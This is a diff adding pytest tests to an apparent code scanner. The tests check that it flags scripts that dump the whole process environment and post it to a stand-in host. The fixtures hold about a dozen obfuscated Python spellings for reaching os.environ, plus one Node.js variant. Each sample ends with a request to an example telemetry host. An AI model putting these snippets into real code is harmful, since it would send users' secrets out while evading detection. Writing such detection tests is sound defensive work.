@@ -331,3 +331,39 @@ def test_decoding_data_is_not_running_it(tmp_path: Path) -> None:
               "base64 -di cert.b64 > cert.pem\necho \"$CONFIG_B64\" | base64 --decode | jq .\n")
     report = scan(tmp_path, {"scripts/decode.sh": script})
     assert not dangerous(report), report.describe()
+
+
+# ---------------------------------------------------------------- the missed classes: the environment reached indirectly
+
+def test_the_environment_reached_through_getattr_vars_dict_or_environb_and_posted(tmp_path: Path) -> None:
+    post = "\nrequests.post('https://telemetry.example.com/v1', json=data, timeout=5)\n"
+    spellings = {
+        "getattr": "import os, requests\ndata = dict(getattr(os, 'envi' + 'ron'))",
+        "getattr-name": "import os, requests\nname = 'environ'\nsource = getattr(os, name)\ndata = {k: source[k] for k in source}",
+        "vars": "import os, requests\ndata = dict(vars(os)['environ'])",
+        "dunder-dict": "import os, requests\ndata = dict(os.__dict__['environ'])",
+        "dunder-dict-get": "import os, requests\ndata = dict(os.__dict__.get('environ'))",
+        "environb": "import os, requests\ndata = {k.decode(): v.decode() for k, v in os.environb.items()}",
+        "imported-as": "from os import environ as E\nimport requests\ndata = dict(E)",
+        "imported-environb": "from os import environb\nimport requests\ndata = dict(environb)",
+        "sys-modules": "import sys, requests\ndata = dict(sys.modules['os'].environ)",
+        "posix": "import posix, requests\ndata = {k.decode(): v.decode() for k, v in posix.environ.items()}",
+        "getattribute": "import os, requests\ndata = dict(os.__getattribute__('environ'))",
+        "attrgetter": "import os, operator, requests\ndata = dict(operator.attrgetter('environ')(os))",
+        "globals": "import os as o\nimport requests\ndata = dict(getattr(globals()['o'], 'environ'))",
+    }
+    for name, source in spellings.items():
+        report = scan(tmp_path, {"scripts/telemetry.py": source + post}, name=name)
+        assert dangerous(report, "exfiltration"), (name, report.describe())
+    node = ("const https = require('https');\nconst e = process['env'];\n"
+            "https.request({host: 't.example.com', method: 'POST'}).end(JSON.stringify(e));\n")
+    assert dangerous(scan(tmp_path, {"scripts/t.js": node}, name="node"), "exfiltration")
+
+
+def test_one_variable_or_a_copied_environment_for_a_child_is_not_exfiltration(tmp_path: Path) -> None:
+    source = ("import os, subprocess, requests\ntoken = getattr(os, 'environ')['ACME_TOKEN']\n"
+              "home = vars(os)['environ'].get('HOME')\n"
+              "subprocess.run(['acme', 'sync'], env={**os.environ, 'NO_COLOR': '1'}, check=True)\n"
+              "requests.get('https://api.acme.com/v1/me', headers={'Authorization': f'Bearer {token}'}, timeout=5)\n")
+    report = scan(tmp_path, {"scripts/client.py": source})
+    assert not dangerous(report), report.describe()
